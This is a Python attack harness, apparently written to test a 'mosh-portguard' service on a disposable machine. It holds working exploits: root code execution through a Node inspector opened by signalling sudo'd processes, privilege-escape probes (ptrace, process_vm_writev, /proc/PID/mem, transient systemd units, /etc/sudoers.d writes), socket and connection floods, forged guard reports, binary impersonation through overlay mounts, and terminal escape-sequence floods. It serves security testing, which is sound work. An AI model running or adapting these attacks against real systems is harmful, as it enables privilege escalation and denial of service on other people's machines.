#!/usr/bin/python3
"""Attacks on an installed guard, run on a throw-away machine by an ordinary user (see `attacks`): attack.py NAME ARGUMENT…

Each prints what came of it and is bounded in count and time. `contained` alone runs as the guard itself would.
"""
import array, base64, ctypes, json, os, random, re, signal, socket, struct, subprocess, sys, time, urllib.request

FOLDER = "/run/mosh-portguard"
LIBC = ctypes.CDLL(None, use_errno=True)


def sockets_of_guard():
    """The attacker's own, where the guard makes such, and everybody's."""
    own = f"{FOLDER}/users/{os.getuid()}"
    return [path for path in (own, f"{FOLDER}/guard.sock") if os.path.exists(path)]


def guard_says(message, path=None, wait=3.0):
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(wait)
        line.connect(path or sockets_of_guard()[-1])
        line.sendall(json.dumps({"v": 1, **message}).encode() + b"\n")
        answer = b""
        while b"\n" not in answer:
            more = line.recv(65536)
            if not more:
                return None
            answer += more
        return json.loads(answer)


def udp(address, port, *options):
    bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for level, option in options:
        bound.setsockopt(level, option, 1)
    bound.bind((address, port))
    return bound


def raise_limit():
    import resource
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def echo(bound, word, seconds):
    """Answers whoever reaches this socket with a word of its own."""
    bound.settimeout(0.5)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            _, peer = bound.recvfrom(2048)
            bound.sendto(word.encode(), peer)
        except TimeoutError:
            pass


# --- 1: root by the inspector ---

def evaluate(url, expression):
    """One Runtime.evaluate by a WebSocket spoken by hand: no library of the machine's is needed."""
    host, port, path = re.match(r"ws://([^:/]+):(\d+)(/.*)", url).groups()
    line = socket.create_connection((host, int(port)), 2)
    key = base64.b64encode(os.urandom(16)).decode()
    line.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
    line.recv(4096)
    params = {"expression": expression, "includeCommandLineAPI": True}
    text = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": params}).encode()
    mask = os.urandom(4)
    masked = bytes(byte ^ mask[n % 4] for n, byte in enumerate(text))
    line.sendall(b"\x81" + bytes([0x80 | 126]) + struct.pack(">H", len(text)) + mask + masked)
    line.settimeout(2)
    try:
        return line.recv(65536)
    except TimeoutError:
        return b""


def inspector(tries, *command):
    """SIGUSR1 to one's own sudo, which relays it: an inspector that opens obeys whoever connects."""
    seen, uid = 0, None
    for number in range(1, int(tries) + 1):
        running = subprocess.Popen(["sudo", "-n", *command], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(random.uniform(0.02, 0.45))
        try:
            running.send_signal(signal.SIGUSR1)
        except (PermissionError, ProcessLookupError):
            pass
        until = time.monotonic() + 0.4
        while time.monotonic() < until:
            try:
                with urllib.request.urlopen("http://127.0.0.1:9229/json/list", timeout=0.3) as page:
                    target = json.load(page)[0]["webSocketDebuggerUrl"]
                seen += 1
                # Whoever may evaluate may do everything; the file is for who does not believe the number.
                answer = evaluate(target, "(() => { try { (typeof require === 'function' ? require : process.mainModule.require)('fs')"
                                  ".writeFileSync('/root/owned', '') } catch {} return process.getuid() })()")
                uid = re.search(rb'"value":(\d+)', answer)
                break
            except (OSError, ValueError):
                time.sleep(0.01)
        running.terminate()
        try:
            running.wait(5)
        except (subprocess.TimeoutExpired, PermissionError):
            pass
        if uid:
            break
    print(f"{number} tries, inspector seen {seen} times{f', answered as uid {uid[1].decode()}' if uid else ''}")


# --- 3, 10: load ---

def idle_sockets(count, port):
    """On addresses of 127/8; by as many processes as the limit of descriptors asks for."""
    each = min(raise_limit() - 50, 14000, int(count))
    processes = -(-int(count) // each)
    read, write = os.pipe()
    for number in range(1, processes + 1):
        if os.fork():
            continue
        kept = [udp(f"127.{number}.{n // 250 + 1}.{n % 250 + 1}", int(port)) for n in range(each)]
        os.write(write, b".")
        time.sleep(300)
        os._exit(len(kept) * 0)
    for _ in range(processes):
        os.read(read, 1)
    print("ready", processes * each, flush=True)
    time.sleep(300)


def leases(servers, each):
    """Genuine servers that inherited sockets on loopback, a report for each of these, then the servers' end."""
    raise_limit()
    standing = []
    for number in range(1, int(servers) + 1):
        kept = [udp(f"127.{number}.1.{1 + n // 600}", 60300 + n % 600) for n in range(int(each))]
        for one in kept:
            one.set_inheritable(True)
        line = ["mosh-server", "new", "-i", "127.0.0.1", "-p", str(60990 - number), "--", "sleep", "600"]
        said = subprocess.run(line, close_fds=False, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        pid = int(re.search(r"pid = (\d+)", said.stdout + said.stderr)[1])
        names = [one.getsockname() for one in kept]
        for one in kept:
            one.close()
        time.sleep(0.3)
        holder = pid
        try:
            status = guard_says({"type": "status"})["status"]
            holder = next((one["pid"] for one in status["ports"] if one["address"] == names[0][0] and "pid" in one), pid)
        except (OSError, TypeError):
            pass
        for address, port in names:
            line = socket.socket(socket.AF_UNIX)
            line.settimeout(1)
            try:
                line.connect(sockets_of_guard()[0])
                line.sendall(json.dumps({"v": 1, "type": "report", "family": "ipv4", "address": address, "port": port, "pid": holder}).encode() + b"\n")
                line.recv(4096)
                standing.append(line)
            except OSError:
                line.close()
        for one in {pid, holder}:
            os.kill(one, signal.SIGKILL)
    print("ready", len(standing), flush=True)
    time.sleep(120)


def talk(kind, connections, seconds, reads="yes"):
    """So many connections that each say the same five times a second, and come again when they are dropped."""
    raise_limit()
    message = {"status": {"type": "status"}, "dry": {"type": "sync", "dryRun": True}, "arm": {"type": "arm", "seconds": 60}}[kind]
    text = json.dumps({"v": 1, **message}).encode() + b"\n"
    print("ready", flush=True)
    lines = [None] * int(connections)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for n, line in enumerate(lines):
            try:
                if line is None:
                    lines[n] = line = socket.socket(socket.AF_UNIX)
                    line.setblocking(False)
                    line.connect(sockets_of_guard()[0])
                    # A client that does not read asks at once for all that it may.
                    line.send(text * (1 if reads == "yes" else 19))
                line.send(text)
                while reads == "yes" and line.recv(1 << 20):
                    pass
            except BlockingIOError:
                pass
            except OSError:
                lines[n] = None
        time.sleep(0.2)


def liars(address, first, ports, each, seconds):
    """Reports about the ports that others will have next, so many for each port, for ever."""
    raise_limit()
    told = [int(first) + n for n in range(int(ports))] * int(each)
    lines = [None] * len(told)
    print("ready", flush=True)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for n, port in enumerate(told):
            try:
                if lines[n] is None:
                    lines[n] = socket.socket(socket.AF_UNIX)
                    lines[n].setblocking(False)
                    lines[n].connect(sockets_of_guard()[0])
                    report = {"v": 1, "type": "report", "family": "ipv4", "address": address, "port": port, "pid": os.getpid()}
                    lines[n].send(json.dumps(report).encode() + b"\n")
                elif not lines[n].recv(4096):
                    lines[n] = None
            except BlockingIOError:
                pass
            except OSError:
                lines[n] = None
        time.sleep(0.02)


def changing_holder(ports, rounds, address):
    """Sockets of the range whose holder becomes a trusted program and another one in turn; each time the guard is told to look."""
    raise_limit()
    kept = [udp(address, 60300 + n) for n in range(int(ports))]
    for one in kept:
        one.set_inheritable(True)
    print("ready", flush=True)
    for number in range(int(rounds)):
        line = ["mosh-server", "new", "-i", "127.0.0.1", "-p", str(60990 - number), "--", "sleep", "600"]
        said = subprocess.run(line, close_fds=False, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        pid = re.search(r"pid = (\d+)", said.stdout + said.stderr)
        for _ in range(2):
            time.sleep(0.5)
            try:
                guard_says({"type": "sync"}, wait=10)
            except OSError:
                pass
            if pid:
                subprocess.run(["pkill", "-9", "-P", pid[1]])
                subprocess.run(["kill", "-9", pid[1]], stderr=subprocess.DEVNULL)
    print("done", flush=True)


def socket_ends(count):
    """By perl, which is twice as fast."""
    text = """use Socket; my $at = pack_sockaddr_in($ARGV[0], inet_aton("127.0.0.1"));
        for (1 .. $ARGV[1]) { socket(my $socket, AF_INET, SOCK_DGRAM, 0) or die; bind($socket, $at) }"""
    print("ready", flush=True)
    running = [subprocess.Popen(["perl", "-e", text, str(60900 + n), str(int(count) // 2)]) for n in range(2)]
    for one in running:
        one.wait()
    print("done")


# --- 7: what a guard in an attacker's hands could do ---

def contained(victim):
    """Under the installed unit's own directives. `victim`: a process of root's that is not the unit's."""
    victim = int(victim)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    def call(number, *arguments):
        wide = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
        if LIBC.syscall(ctypes.c_long(number), *wide) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def vm_write():
        with open(f"/proc/{victim}/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if " rw-p " in line)
        buffer = ctypes.create_string_buffer(1)
        mine, theirs = Vector(ctypes.addressof(buffer), 1), Vector(start, 1)
        call(310, victim, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        # The same byte that was there.
        call(311, victim, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)

    def run(*line):
        subprocess.run(line, check=True, capture_output=True, timeout=10)

    def transient():
        line = "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit"
        unit = "ssa(sv)a(sa(sv)) attack-out.service fail 1 ExecStart a(sasb) 1 /usr/bin/touch 2 /usr/bin/touch /root/owned-by-unit false 0"
        run(*line.split(), *unit.split())

    def create(path):
        with open(path, "w"):
            pass
        os.unlink(path)

    ways = {
        "StartTransientUnit": transient,
        "process_vm_writev": vm_write,
        "/proc/PID/mem for writing": lambda: os.close(os.open(f"/proc/{victim}/mem", os.O_RDWR)),
        "ptrace": lambda: (call(101, 16, victim, 0, 0), call(101, 17, victim, 0, 0)),
        "pidfd_getfd": lambda: call(438, os.pidfd_open(victim), 0, 0),
        "/run": lambda: create("/run/attack"),
        "/run by /proc/1/root": lambda: create("/proc/1/root/run/attack"),
        "/etc/sudoers.d": lambda: create("/etc/sudoers.d/attack"),
        "/etc/sudoers.d by /proc/1/root": lambda: create("/proc/1/root/etc/sudoers.d/attack"),
        "kill": lambda: os.kill(victim, 0),
        "being root": lambda: os.getuid() and os.setuid(0),
    }
    for name, way in ways.items():
        try:
            way()
            print(f"open {name}")
        except (OSError, subprocess.SubprocessError, StopIteration) as error:
            print(f"shut {name}: {error}")


# --- 8: what a program in a session prints ---

def output(kind):
    write = sys.stdout.buffer.write
    if kind == "osc":
        write(b"\x1b]0;")
        for _ in range(1200):
            write(b"x" * 10_000)
    else:
        write(f"\x1b[999{kind}".encode() * (70_000 // 6))
    sys.stdout.flush()


# --- 9: whom the guard believes ---

def overlay(address, port):
    """Python as a file that seems to be /usr/bin/mosh-server, root's, unlinked; run in the host's own namespaces."""
    work = "/tmp/attack-overlay"
    os.makedirs(work, exist_ok=True)
    python = os.path.realpath("/usr/bin/python3")
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        uid, gid = os.getuid(), os.getgid()
        if LIBC.unshare(0x10000000 | 0x00020000):
            os._exit(2)
        for file, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{file}", "w") as target:
                target.write(text)
        merged = f"{work}/merged/{os.path.basename(python)}"
        options = f"lowerdir={os.path.dirname(python)},upperdir={work}/upper,workdir={work}/work,userxattr"
        # A tmpfs of its own: a machine whose disk is an overlay has no other place for the upper folder.
        if os.system(f"mount -t tmpfs tmpfs {work} && mkdir {work}/upper {work}/work {work}/merged"):
            os._exit(4)
        if os.system(f"mount -t overlay overlay -o {options} {work}/merged && mount --bind {merged} /usr/bin/mosh-server"):
            os._exit(3)
        held = os.open("/usr/bin/mosh-server", os.O_RDONLY)
        os.unlink(merged)
        theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [held]))])
        time.sleep(120)
        os._exit(0)
    theirs.close()
    ours.settimeout(10)
    data, control, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
    if not data:
        print("no overlay in a user namespace here", flush=True)
        return
    held = array.array("i", control[0][2])[0]
    os.set_inheritable(held, True)
    os.execve(held, [python, os.path.abspath(__file__), "bind", address, port, "foreign"], dict(os.environ))


def bind(address, port, word):
    """Binds, makes a pty as a mosh-server does, and answers."""
    bound = udp(address, int(port))
    pty = os.open("/dev/ptmx", os.O_RDWR)
    print(f"{os.readlink('/proc/self/exe')} holds {port}", flush=True)
    echo(bound, word, 40)
    os.close(pty)


def shared(address, port):
    """A socket that a genuine server inherits, and that this program keeps too."""
    bound = udp(address, int(port))
    bound.set_inheritable(True)
    start_server(60991)
    print("ready", flush=True)
    echo(bound, "foreign", 40)


def specific(address, port):
    """A server that alone holds the wildcard address; this program, beside it, the more specific one."""
    reuse = (socket.SOL_SOCKET, socket.SO_REUSEADDR)
    wildcard = udp("0.0.0.0", int(port), reuse)
    wildcard.set_inheritable(True)
    start_server(60992)
    wildcard.close()
    bound = udp(address, int(port), reuse)
    print("ready", flush=True)
    echo(bound, "foreign", 40)


def start_server(port):
    line = ["mosh-server", "new", "-i", "127.0.0.1", "-p", str(port), "--", "sleep", "60"]
    subprocess.run(line, close_fds=False, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)


def forge(address, port):
    """Reports another user's socket with the pid that everybody's status tells, and a client that there never was."""
    for path in sockets_of_guard():
        status = guard_says({"type": "status"}, path)["status"]
        pid = next((one["pid"] for one in status["ports"] if one["port"] == int(port) and "pid" in one), None)
        line = socket.socket(socket.AF_UNIX)
        line.connect(path)
        report = {"v": 1, "type": "report", "family": "ipv4", "address": address, "port": int(port), "pid": pid or 1}
        line.sendall(json.dumps(report).encode() + b"\n")
        line.settimeout(3)
        try:
            line.recv(4096)
            update = {"v": 1, "type": "update", "client": {"address": "6.6.6.6", "port": 6}, "silentMs": 8640000000, "idleMs": 8640000000}
            line.sendall(json.dumps(update).encode() + b"\n")
        except OSError:
            pass
        globals().setdefault("kept", []).append(line)
    print("ready", flush=True)
    time.sleep(8)


# --- The other end, in the client's namespace ---

def probe(address, port, seconds):
    """What answers there: its first bytes, or nothing."""
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.settimeout(0.2)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        try:
            line.sendto(b"probe", (address, int(port)))
            print("answered:", line.recvfrom(2048)[0][:20].decode("latin1"))
            return
        except OSError:
            time.sleep(0.05)
    print("silent")


def knock(address, port, seconds):
    """When the first datagram was let through (CLOCK_MONOTONIC): a rule behind the firewall rejects it then."""
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.connect((address, int(port)))
    line.setblocking(False)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        try:
            line.send(b"bell")
            time.sleep(0.005)
            line.send(b"bell")
        except ConnectionRefusedError:
            print(time.monotonic(), flush=True)
            return
        time.sleep(0.005)
    print("never")


def announce(address, port, server="mosh-server"):
    """A server: its pid, and when it was announced."""
    line = [server, "new", "-i", address, "-p", port, "--", "sleep", "600"]
    os.environ["LC_ALL"] = "C.UTF-8"
    said = subprocess.run(line, stdin=subprocess.DEVNULL, capture_output=True, text=True)
    print(time.monotonic(), re.search(r"pid = (\d+)", said.stdout + said.stderr)[1], flush=True)


def interactive(seconds, *command):
    """Runs a client on a pty for so long."""
    import fcntl, pty, select, termios
    pid, fd = pty.fork()
    if pid == 0:
        os.environ.update(TERM="xterm-256color", LANG="C.UTF-8", LC_ALL="C.UTF-8")
        os.execvp(command[0], command)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        if select.select([fd], [], [], 0.1)[0]:
            try:
                os.read(fd, 65536)
            except OSError:
                break
    os.kill(pid, signal.SIGKILL)


globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
